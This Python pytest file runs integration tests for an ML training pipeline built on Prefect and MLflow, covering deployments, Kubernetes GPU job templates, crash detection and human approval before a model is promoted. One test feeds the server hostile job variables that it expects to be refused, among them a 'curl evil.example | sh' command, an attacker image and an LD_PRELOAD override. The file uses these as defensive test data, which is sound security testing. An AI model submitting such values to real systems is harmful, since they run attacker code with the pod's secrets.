"""deployments/prefect.yaml against a real `prefect server` and a real `mlflow server`, both started here.

A Prefect server (its own PREFECT_HOME and SQLite in a temp folder; the session's, see tests/conftest.py) gets both
work pools and `prefect deploy --all`; a process worker then runs the cold-start stage's deployment, which logs to an
MLflow server (SQLite + a local artifact folder). The Kubernetes GPU template is rendered by Prefect's own
job-configuration code.
"""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
from mlflow import MlflowClient

from flows.cli import stack
from tiny_configs import TINY_ALIGN, TINY_STAGE

EXPECTED = {("r1_pipeline", "local"), ("cold_start_sft", "r1-process"), ("reasoning_grpo", "r1-process"),
            ("rejection_sampling", "r1-process"), ("sft", "r1-process"), ("alignment_grpo", "r1-process"),
            ("r1_pipeline", "gpu"), ("r1_pipeline", "placed"), ("r1_pipeline", "ray"), ("r1_sweep", "local")}


@pytest.fixture(scope="module")
def servers(deployed_server, tmp_path_factory):
    """The session's Prefect server (both pools, every deployment) and an MLflow server stopped after the module."""
    root = tmp_path_factory.mktemp("stack")
    started: list[stack.Started] = []
    try:
        mlflow, tracking = stack.start_mlflow_server(root / "mlflow.db", root / "mlartifacts", stack.free_port(),
                                                     root / "logs")
        started.append(mlflow)
        yield {"api": deployed_server["api"], "tracking": tracking, "root": root, "started": started}
    finally:
        stack.stop_processes(started[::-1])


def call(api: str, fn, *args, **kwargs) -> Any:
    """Run `await fn(client, ...)` with a Prefect client on the test's server."""
    from prefect.client.orchestration import PrefectClient

    async def go():
        async with PrefectClient(api) as client:
            return await fn(client, *args, **kwargs)

    return asyncio.run(go())


async def _deployments(client):
    return [(d, (await client.read_flow(d.flow_id)).name) for d in await client.read_deployments()]


def test_every_deployment_is_registered_with_typed_parameters(servers):
    deployments = {(flow, d.name): d for d, flow in call(servers["api"], _deployments)}
    assert set(deployments) == EXPECTED

    pipeline = deployments["r1_pipeline", "local"]
    assert pipeline.work_pool_name == stack.PROCESS_POOL
    assert pipeline.parameters == {"recipe": "tiny", "overrides": {}}
    # the pipeline's form: a recipe name and overrides of its fields (dotted path -> value), empty unless given
    for name in ("local", "gpu", "placed", "ray"):
        d = deployments["r1_pipeline", name]
        assert d.parameters["overrides"] == {} and d.enforce_parameter_schema, name
        overrides = d.parameter_openapi_schema["properties"]["overrides"]
        assert any(t.get("type") == "object" for t in overrides.get("anyOf", [overrides])), name
        assert "overrides" not in d.parameter_openapi_schema.get("required", []), name
    [schedule] = pipeline.schedules
    assert schedule.schedule.cron == "0 2 * * 1" and schedule.active is False  # an example, off by default
    assert pipeline.global_concurrency_limit.limit == 1

    # a stage's config is its pydantic model, so the UI gets a typed form (and the server validates runs)
    schema = deployments["cold_start_sft", "r1-process"].parameter_openapi_schema
    config = schema["properties"]["config"]
    assert config["$ref"].endswith("/ColdStartSFTConfig") or "ColdStartSFTConfig" in json.dumps(config)
    assert "ColdStartSFTConfig" in schema["definitions"] and deployments["cold_start_sft", "r1-process"].enforce_parameter_schema
    assert "checkpoint_uri" in deployments["reasoning_grpo", "r1-process"].parameter_openapi_schema["required"]

    # each stage's deployment is made from its declaration (`r1 deploy`): the recipe's section is its default config
    from grpo.configs.recipe import load_recipe

    tiny = load_recipe("tiny")
    for stage in ("cold_start_sft", "reasoning_grpo", "rejection_sampling", "sft", "alignment_grpo"):
        d = deployments[stage, stack.PROCESS_POOL]
        assert d.work_pool_name == stack.PROCESS_POOL and d.enforce_parameter_schema, stage
        assert d.parameters["config"] == getattr(tiny, stage).model_dump(mode="json"), stage


async def _pools(client):
    return await client.read_work_pools()


def test_a_pool_and_a_deployment_that_wait_for_a_worker_up_does_not_start_say_how_to_start_one(servers):
    pools = {p.name: p for p in call(servers["api"], _pools)}
    assert "`r1 up` starts its worker" in pools[stack.PROCESS_POOL].description
    for name in (stack.GPU_POOL, stack.INFERENCE_POOL):
        assert "Not Ready" in pools[name].description, name
        assert f"prefect worker start --pool {name} --type kubernetes" in pools[name].description, name
    waiting = [d for d, _ in call(servers["api"], _deployments) if d.work_pool_name == stack.GPU_POOL]
    assert {d.name for d in waiting} >= {"gpu", "placed", "ray"}
    for d in waiting:
        if d.name in ("gpu", "placed", "ray"):  # the pipeline's own; a stage's says its pool in its name
            assert f"prefect worker start --pool {stack.GPU_POOL} --type kubernetes" in d.description, d.name


def _job_configuration_class():
    from prefect.workers.base import BaseJobConfiguration

    class KubernetesLikeJobConfiguration(BaseJobConfiguration):  # the fields prefect-kubernetes' config declares
        namespace: str = "default"
        job_manifest: dict[str, Any]
        cluster_config: Any = None
        job_watch_timeout_seconds: int | None = None
        pod_watch_timeout_seconds: int = 60
        stream_output: bool = True

    return KubernetesLikeJobConfiguration


def test_the_gpu_job_template_renders_to_a_job_requesting_gpus(servers):
    """The server accepted the template (it validates a pool's template), and Prefect's own rendering
    (`BaseJobConfiguration.from_template_and_values`, which every worker calls per flow run) fills it in."""
    config_class = _job_configuration_class()

    async def render(client, job_variables):
        pool = await client.read_work_pool(stack.GPU_POOL)
        return await config_class.from_template_and_values(pool.base_job_template, job_variables, client=client)

    deployments = {(flow, d.name): d for d, flow in call(servers["api"], _deployments)}
    from grpo.configs.recipe import load_recipe

    # what recipes/gsm8k.yaml asks for reasoning GRPO: the job variables its pipeline gives the stage's flow run
    asked = load_recipe("gsm8k").reasoning_grpo.resources
    assert asked.pool == stack.GPU_POOL
    eight = call(servers["api"], render, asked.as_job_variables())
    pod = eight.job_manifest["spec"]["template"]["spec"]
    [container] = pod["containers"]
    assert container["resources"]["limits"] == {"memory": "512Gi", "nvidia.com/gpu": 8}
    assert container["resources"]["requests"]["nvidia.com/gpu"] == 8
    assert container["envFrom"][0] == {"secretRef": {"name": "r1-secrets", "optional": True}}  # logins, judge key
    assert pod["tolerations"] == [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}]
    assert eight.namespace == "r1" and eight.job_manifest["spec"]["ttlSecondsAfterFinished"] == 3600
    # one pod per flow run: Kubernetes reads these from the Job's spec (in the pod's spec they are not fields)
    job = eight.job_manifest["spec"]
    assert (job["parallelism"], job["completions"], job["backoffLimit"]) == (1, 1, 0)
    assert not {"parallelism", "completions", "backoffLimit"} & set(pod)

    one = call(servers["api"], render, {"gpu_count": 1})
    [container] = one.job_manifest["spec"]["template"]["spec"]["containers"]
    assert container["resources"]["limits"] == {"memory": "64Gi", "nvidia.com/gpu": 1}
    # what a run may not change is written into the job: the image, the namespace, the secrets and settings
    assert (container["image"], one.namespace) == ("ghcr.io/r1-pipeline/r1:latest", "r1")
    assert container["envFrom"][1] == {"configMapRef": {"name": "r1-config", "optional": True}}  # MLflow's URI...


def test_a_flow_run_on_the_gpu_pool_may_set_its_resources_and_nothing_else(servers):
    """Who reaches the Prefect API (with its login) starts flow runs of the team's deployments with job variables
    of their choosing: the GPU pool's template lists only what a run should change, and the server refuses the
    rest, the command and the image above all (either one is running code of one's own with the pod's secrets)."""
    from prefect.exceptions import PrefectHTTPStatusError

    async def start(client, job_variables):
        deployment = await client.read_deployment_by_name("r1_pipeline/gpu")
        return await client.create_flow_run_from_deployment(deployment.id, job_variables=job_variables)

    async def delete(client, flow_run):
        await client.delete_flow_run(flow_run.id)

    allowed = call(servers["api"], start, {"gpu_count": 2, "memory": "128Gi", "node_selector": {"pool": "a100"}})
    assert allowed.job_variables["gpu_count"] == 2
    call(servers["api"], delete, allowed)
    for wrong in ({"command": "curl evil.example | sh"}, {"image": "evil/image"}, {"env": {"LD_PRELOAD": "x"}},
                  {"env_secret": "other-team"}, {"namespace": "kube-system"}):
        with pytest.raises(PrefectHTTPStatusError) as refused:
            call(servers["api"], start, wrong)
        assert refused.value.response.status_code in (409, 422), wrong
        assert next(iter(wrong)) in refused.value.response.text, refused.value.response.text


def test_a_stage_deployment_runs_on_a_worker_and_logs_to_mlflow(servers):
    from prefect.client.schemas.objects import StateType
    from prefect.deployments import arun_deployment

    worker = stack.start_worker(servers["api"], servers["tracking"], servers["root"] / "logs",
                                PREFECT_WORKER_QUERY_SECONDS="2", OMP_NUM_THREADS="1")
    servers["started"].append(worker)

    async def run(client):
        return await arun_deployment("cold_start_sft/r1-process", client=client, parameters={"config": TINY_STAGE},
                                     timeout=300, poll_interval=2, as_subflow=False)

    flow_run = call(servers["api"], run)
    log = open(worker.log).read()[-4000:]
    assert flow_run.state.type == StateType.COMPLETED, log

    mlflow = MlflowClient(tracking_uri=servers["tracking"])
    experiments = [e.experiment_id for e in mlflow.search_experiments()]
    [run] = mlflow.search_runs(experiments, f"tags.`prefect.flow_run_id` = '{flow_run.id}'")
    assert run.info.status == "FINISHED" and run.data.tags["stage"] == "cold_start_sft"
    assert run.data.params["train.max_steps"] == "4"  # the parameters sent through the API reached the flow
    assert "eval/accuracy" in run.data.metrics
    assert "checkpoint" in {a.path for a in mlflow.list_artifacts(run.info.run_id)}
    # artifacts went through the server into its local artifact folder
    assert any((servers["root"] / "mlartifacts").rglob("config.json"))


def test_the_server_marks_a_flow_run_crashed_once_its_heartbeats_stop(servers):
    """`r1 up` (and this session's server) gets Prefect's zombie automation: a flow run that stops sending heartbeats
    (its pod preempted, its worker killed) is marked Crashed rather than left Running; the workers' flow runs send
    them (PREFECT_FLOWS_HEARTBEAT_FREQUENCY)."""
    from prefect.client.schemas.objects import StateType
    from prefect.settings import PREFECT_API_URL, temporary_settings

    with temporary_settings({PREFECT_API_URL: servers["api"]}):
        automation = stack.read_automation(stack.ZOMBIE_AUTOMATION)
    assert automation is not None and automation.enabled
    assert automation.trigger.after == {"prefect.flow-run.heartbeat"}
    assert automation.trigger.within.total_seconds() == 3 * stack.FLOW_HEARTBEAT_S
    assert [a.state for a in automation.actions] == [StateType.CRASHED]
    assert stack.base_env()["PREFECT_FLOWS_HEARTBEAT_FREQUENCY"] == str(stack.FLOW_HEARTBEAT_S)


def test_promotion_from_a_deployment_suspends_for_approval_and_resumes_through_the_api(servers, answering_checkpoint):
    """`promotion: approve` on a worker: the flow run is suspended (its process ends, freeing the machine), a person's
    answer through the Prefect API resumes it, and the worker runs it again, which promotes without training again."""
    import time

    from prefect.client.schemas.objects import StateType
    from prefect.deployments import arun_deployment

    worker = stack.start_worker(servers["api"], servers["tracking"], servers["root"] / "logs",
                                PREFECT_WORKER_QUERY_SECONDS="2", OMP_NUM_THREADS="1")
    servers["started"].append(worker)
    name = f"r1-suspend-{int(time.time())}"
    config = {**TINY_ALIGN, "registered_model": name, "promotion": "approve", "approval_timeout_s": 600}

    async def start(client):
        return await arun_deployment("alignment_grpo/r1-process", client=client, timeout=0, as_subflow=False,
                                     parameters={"checkpoint_uri": answering_checkpoint, "config": config})

    flow_run = call(servers["api"], start)

    async def state(client):
        return (await client.read_flow_run(flow_run.id)).state

    deadline = time.monotonic() + 400
    while (now := call(servers["api"], state)).name != "Suspended" and time.monotonic() < deadline:
        assert not now.is_final(), f"{now.type}: {open(worker.log).read()[-4000:]}"
        time.sleep(2)
    assert now.name == "Suspended", open(worker.log).read()[-4000:]
    mlflow = MlflowClient(tracking_uri=servers["tracking"])
    assert not mlflow.get_registered_model(name).aliases  # nothing moves before a person answers

    async def answer(client):
        return await client.resume_flow_run(flow_run.id, run_input={"promote": True, "note": "read the samples"})

    call(servers["api"], answer)
    while not (now := call(servers["api"], state)).is_final() and time.monotonic() < deadline:
        time.sleep(2)
    assert now.type == StateType.COMPLETED, open(worker.log).read()[-4000:]
    version = mlflow.get_model_version_by_alias(name, "champion")
    run = mlflow.get_run(version.run_id)
    assert run.data.tags["promotion.reason"].startswith("approved in the Prefect UI (read the samples)")
    stage_runs = mlflow.search_runs([run.info.experiment_id], f"tags.`prefect.flow_run_id` = '{flow_run.id}'")
    assert [r.info.run_id for r in stage_runs] == [run.info.run_id]  # trained once, before the suspension


def test_r1_up_keeps_the_stage_deployments_a_user_changed(servers):
    """`r1 deploy --set cold_start_sft.train.max_steps=20` made the stage's deployment run 20 steps; `r1 up` (after
    `r1 down`) deploys the stages again only where none is on the server, so the 20 stays."""
    from prefect.client.orchestration import get_client

    from flows.cli.deploy import deploy_stages
    from grpo.configs.recipe import apply_overrides, load_recipe

    api = servers["api"]

    def max_steps() -> int:
        with stack.prefect_api(api, None), get_client(sync_client=True) as client:
            return client.read_deployment_by_name("cold_start_sft/r1-process").parameters["config"]["train"]["max_steps"]

    default = max_steps()
    try:
        with stack.prefect_api(api, None):
            deploy_stages(apply_overrides(load_recipe("tiny"), {"cold_start_sft.train.max_steps": default + 7}),
                          stack.PROCESS_POOL)
        assert max_steps() == default + 7
        assert stack.deploy_stages_on(api, "tiny", stack.PROCESS_POOL, keep_existing=True) == []  # what r1 up does
        assert max_steps() == default + 7
    finally:
        stack.deploy_stages_on(api, "tiny", stack.PROCESS_POOL)  # as the session made it, for the other tests
    assert max_steps() == default
